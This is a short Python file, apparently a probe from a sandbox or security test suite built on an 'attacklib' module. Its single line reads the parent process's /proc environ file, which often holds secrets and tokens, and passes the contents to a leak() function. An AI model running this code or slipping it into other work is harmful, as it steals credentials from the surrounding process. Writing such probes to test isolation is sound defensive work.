"""secrets: read /proc/<ppid>/environ."""

import os

from attacklib import *

observe("ppid environ", lambda: leak(open("/proc/%d/environ" % os.getppid(), "rb").read()))
